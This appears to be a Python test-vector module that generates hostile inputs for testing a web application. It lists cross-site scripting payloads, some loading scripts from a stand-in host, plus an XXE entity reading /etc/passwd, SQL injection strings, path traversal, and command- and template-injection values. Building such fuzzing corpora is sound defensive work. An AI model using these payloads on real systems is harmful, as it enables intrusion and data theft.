"""Hostile texts: markup that would run if a page let it, and values that would break a query if one took them as code.

Every payload of ours carries the mark `hfx`, so that whatever a page makes of it (an element, an attribute, an
address, a line of script) can be told from the page's own. The outside list of naughty strings is added where it is.
"""

from __future__ import annotations

import json
from itertools import product

from tests.core import vectors

MARK = "hfx"
#: what a payload would do if it ran; the browser tests look for both
RUN = "window.__hit=(window.__hit||0)+1;alert('hfx')"

#: short enough for a column of twelve or twenty characters
SHORT = ["<hfx>", '"><hfx>', "'><hfx>", '" hfx=1', "' hfx=1", " onhfx=1", "--><hfx>", "<svg/hfx>", "</p><hfx/>"]

_BREAK_OUTS = ["", '">', "'>", "`>", "-->", "</title>", "</textarea>", "</script>", "</style>", "</select>", "]]>"]
_ELEMENTS = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"<svg onload={RUN}>",
    f"<details open ontoggle={RUN}>hfx",
]
#: pieces that need no break-out of their own: odd spellings, other namespaces, other ways to run
_WAYS = [
    "<ScRiPt>RUN</sCrIpT>",
    "<script/hfx>RUN</script>",
    "<script\n>RUN</script\n>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script src=//hfx.invalid/x.js></script>",
    "<script src=data:text/javascript,RUN></script>",
    "<img/src=x/onerror=RUN>",
    "<img src='x'onerror='RUN'>",
    "<img src=x\tonerror=RUN>",
    "<img src=x\x0conerror=RUN>",
    "<img srcset=x onerror=RUN>",
    "<image href=x onerror=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><a xlink:href=javascript:RUN><text y=20>hfx</text></a></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:RUN>",
    "<svg><foreignObject><body onload=RUN></foreignObject></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz4=#hfx>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
    "<math href=javascript:RUN>hfx</math>",
    "<body onload=RUN>",
    "<body onpageshow=RUN>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN>",
    "<textarea autofocus onfocus=RUN>",
    "<button autofocus onfocus=RUN formaction=javascript:RUN>hfx</button>",
    "<video src=x onerror=RUN>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN>",
    "<marquee onstart=RUN>hfx</marquee>",
    "<iframe src=javascript:RUN></iframe>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<object data=javascript:RUN></object>",
    "<embed src=javascript:RUN>",
    "<base href=//hfx.invalid/>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<link rel=stylesheet href=//hfx.invalid/x.css>",
    "<link rel=import href=//hfx.invalid/>",
    "<style>@import '//hfx.invalid/x.css';</style>",
    "<style>*{background:url(//hfx.invalid/)}</style>",
    "<div style=background:url(javascript:RUN)>hfx</div>",
    "<p style='animation:hfx' onanimationstart=RUN>",
    "<form action=javascript:RUN><input type=submit value=hfx></form>",
    "<isindex action=javascript:RUN type=image>",
    "<a href=javascript:RUN>hfx</a>",
    "<a href='&#106;avascript:RUN'>hfx</a>",
    "<a href='java\tscript:RUN'>hfx</a>",
    "<a href='\x01javascript:RUN'>hfx</a>",
    "<a href=data:text/html,<script>RUN</script>>hfx</a>",
    "<a href=vbscript:hfx>hfx</a>",
    "<a ping=//hfx.invalid href=x>hfx</a>",
    "javascript:RUN//hfx",
    "JaVaScRiPt:RUN//hfx",
    "data:text/html,<script>RUN</script>",
    "//hfx.invalid/",
    "https://hfx.invalid/?x",
    '" onmouseover="RUN" hfx="',
    "' onmouseover='RUN' hfx='",
    '" autofocus onfocus="RUN" x="hfx',
    "x onmouseover=RUN hfx",
    '" style="background:url(//hfx.invalid/)" x="',
    '" hx-get="//hfx.invalid" hx-trigger="load" x="',
    '" hx-on:load="RUN" x="hfx',
    "<div hx-get=//hfx.invalid hx-trigger=load>hfx</div>",
    "<div data-hx-on:htmx:load=RUN>hfx</div>",
    "</script><script>RUN</script>",
    "'-RUN-'hfx",
    '"-RUN-"hfx',
    "\\'-RUN//hfx",
    "${RUN}hfx",
    "`;RUN;`hfx",
    "\u2028RUN//hfx",
    "</textarea><img src=x onerror=RUN>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<template><img src=x onerror=RUN></template>",
    "<!--[if IE]><script>RUN</script><![endif]-->",
    "<!--><img src=x onerror=RUN>-->",
    "<![CDATA[<img src=x onerror=RUN>]]>",
    "<?xml version='1.0'?><hfx/>",
    "<!DOCTYPE hfx [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<xss id=hfx tabindex=1 onfocus=RUN autofocus>",
    "<hfx-box is=hfx-box></hfx-box>",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&#60;img src=x onerror=RUN&#62;",
    "%3Cscript%3ERUN%3C/script%3E",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=RUN\\x3e",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "＜script＞RUN＜/script＞",
    "\u202e<hfx onload=RUN>",
    "<img src=x onerror=RUN//hfx\u200b>",
    "{{ 7|add:7 }}hfx{% now 'Y' %}",
    "{{constructor.constructor('RUN')()}}hfx",
    "%(hfx)s %s %d {hfx} {0.__class__}",
    "=HYPERLINK(\"javascript:RUN\",\"hfx\")",
    "<hfx\x00 onload=RUN>",
]  # fmt: skip


def markup() -> list[str]:
    """All texts of ours that try to become markup or script, without NUL (which no database takes)."""
    broken_out = [before + element for before, element in product(_BREAK_OUTS, _ELEMENTS)]
    ways = [way.replace("RUN", RUN) for way in _WAYS]
    return [one.replace("\x00", "") for one in (*SHORT, *broken_out, *ways)]


def naughty() -> list[str]:
    """The outside list of naughty strings; [] where it is not."""
    found = vectors.SHARED / "blns" / "blns.json"
    if not found.exists():
        return []
    return [one for one in json.loads(found.read_text(encoding="utf-8")) if one.strip()]


# ---- values that would be code to a query ---------------------------------------------------------------------------

_SQL = [
    "'", "''", '"', "\\", "';--", "' OR '1'='1", "' OR 1=1--", '" OR ""="', "') OR ('1'='1", "1 OR 1=1", "1; SELECT 1",
    "1' AND SLEEP(5)--", "1); SELECT pg_sleep(5)--", "' || pg_sleep(5)--", "1 AND (SELECT 1 FROM pg_sleep(5))",
    "'; DROP TABLE customers_customer;--", "' UNION SELECT NULL--", "1 UNION SELECT password FROM accounts_user",
    "admin'--", "' AND 1=CONVERT(int,@@version)--", "$$;SELECT pg_sleep(5);$$", "1/0", "CAST('x' AS int)", "%27",
    "%2527", "‘ OR ’1’=’1", "＇ OR 1=1", "\\'; SELECT 1--", "0x31", "1e1", "E'\\\\x'", "id) FROM accounts_user--",
    "(SELECT CASE WHEN 1=1 THEN pg_sleep(5) END)", "' AND randomblob(900000000)--", "' OR load_extension('x')--",
]  # fmt: skip
_LOOK_UPS = [
    "password", "user__password", "store__memberships__user__password", "__all__", "pk__in", "id__gte", "_connector",
    "_negated", "OR", "AND", "?", "-?", "pk", "-pk", "name__regex", "store_id__gt", "owner", "__class__",
    "__class__.__mro__", "objects.all", "_meta.db_table", "annotate", "count(*)", "*", "due_on__isnull", "--pk", "-",
    "__", "____", "a__b__c__d__e", "customer__phones__number__startswith", "pk desc", "pk,name", "name;", "name\"",
]  # fmt: skip
_NUMBERS = [
    "0", "-1", "-0", "+1", "00", "01", "1.0", "1.5", "1e3", "1e999", "-1e999", "NaN", "nan", "Infinity", "-inf", "1_0",
    "0b1", "0o7", "2147483647", "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808",
    "-9223372036854775809", "9" * 30, "9" * 400, "9" * 5000, "-" + "9" * 5000, "٣", "１２", "१२", "²", "½", "Ⅷ", "一",
    "1,2", "1, 2", "1 2", " 1", "1 ", "1\n", "\t1", "1;2", "[1]", "{1}", "true", "null", "None", "undefined",
]  # fmt: skip
_DATES = [
    "9999-99-99", "9999-12-31", "10000-01-01", "0000-00-00", "0001-01-01", "-0001-01-01", "2026-02-30", "2026-13-01",
    "2026-1-1", "2026/11/22", "20261122", "2026-W01", "2026-W54-9", "2026-366", "2026-11-22T25:61:61Z", "9999-12",
    "0001-01", "0000-01", "2026-00", "2026-13", "99999999-12", "２０２６-11-22", "٢٠٢٦-١١-٢٢", "today", "yesterday",
    "0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59-23:59", "11-22", "2026年13月40日", "month", "week-1", "-2026-11",
]  # fmt: skip
_CURSORS = [
    "n", "b", "n0", "b0", "n-1", "n1", "b1", "n999999999999999999", "b999999999999999999", "n9999999999999999999",
    "n９", "n٣", "n1n1", "x1", "N1", "n1 ", "n1\n", "n 1", "n1.0", "n'", "n1;", "bb1", "b" * 500, "n" + "1" * 300,
    "eyJpZCI6MX0=", "AAAA", "cGs9MQ==", "n1&n=2",
]  # fmt: skip
_PATTERNS = [
    "%", "%%", "_", "__________", "%" * 3000, "_%" * 1500, "[a-z]", "(a+)+$", "(" * 900, "((((a{1,9}){1,9}){1,9}){1,9}",
    "\\%", "\\_", "*" * 900, "a" * 64 + "!", ".*" * 400, "~", "^$", "\\Z", "(?R)", "(?i)", "[[:alpha:]]", "!", "&", "|",
    "!!&|", "a & b | !c:*", "'a':*", "<->", "1<2>3",
]  # fmt: skip
_JSON = [
    "{}", "[]", '{"a":1}', "[[[[]]]]", "[" * 5000, '{"$ne":null}', '{"$gt":""}', '{"__proto__":{"a":1}}', '"', "'[]'",
    '{"a":' * 900, "null", "true", '["1","2"]', "{'a':1}", '{"q":"x"}:1abcde:sig', "1:2:3", "a" * 40 + ":" + "b" * 27,
]  # fmt: skip
_SIGNS = [
    "\x00", "a\x00b", "\x00" * 50, "\x01", "\x1f", "\x7f", "\x85", "\u2028", "\u200b", "\u202e", "\ufeff", "\ufffe",
    "\uffff", "\ud800", "\udfff", "\ud800\udc00", "a\ud800", "\U0010ffff", "𠮷", "👩‍👩‍👧‍👦", "é" * 300, "e\u0301" * 300,
    "İ", "ı", "ß", "ﬁ", "Å", "ｱ", "张\r\nX: y", "a\r\nSet-Cookie: x=1", "\r", "\n", "\t", " ", "  ", "",
]  # fmt: skip
_LONG = ["x" * 100_000, "张" * 33_000, "1" * 100_000, "'" * 50_000, "a " * 40_000, "1," * 40_000, "%" * 90_000]
_PLACES = [
    "../", "../../../../etc/passwd", "..\\..\\", "/etc/passwd", "file:///etc/passwd", "http://127.0.0.1/", "//x.bad",
    "C:\\", "con", "nul", ".", "..", "/", "//", "?", "#", "&", "=", "a=b", "a&b=c", ";ls", "|id", "`id`", "$(id)",
    "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "%{7*7}", "{% debug %}", "%s%s%n", "%(x)s", "{0.__class__}", "*)(uid",
]  # fmt: skip

#: names that nobody offers, to be sent as parameters: look-ups, fields of other tables, arguments of the query maker
NAMES = [
    "_connector", "_negated", "pk__in", "id__gte", "store", "store_id", "store__code", "owner", "user__password",
    "password__startswith", "__all__", "order_by", "ordering", "sort", "limit", "offset", "per_page", "page_size",
    "fields", "include", "expand", "format", "debug", "callback", "jsonp", "_method", "next", "customer__phones__id",
    "objects", "self", "request", "user", "by", "stores", "scope", "is_superuser", "is_staff", "role", "capability",
]  # fmt: skip


def injections() -> list[str]:
    """Five hundred values for parameters and path arguments: each family as it is, and closed, led or doubled."""
    plain = [
        *_SQL, *_LOOK_UPS, *_NUMBERS, *_DATES, *_CURSORS, *_PATTERNS, *_JSON, *_SIGNS, *_LONG, *_PLACES, *NAMES,
    ]  # fmt: skip
    bent = [before + one + after for before, after in (("1", "--"), ("'", "'"), ("-", ""), ("[", "]")) for one in _SQL]
    bent += [name + end for name in _LOOK_UPS for end in ("__in", "[]")]
    return list(dict.fromkeys([*plain, *bent]))
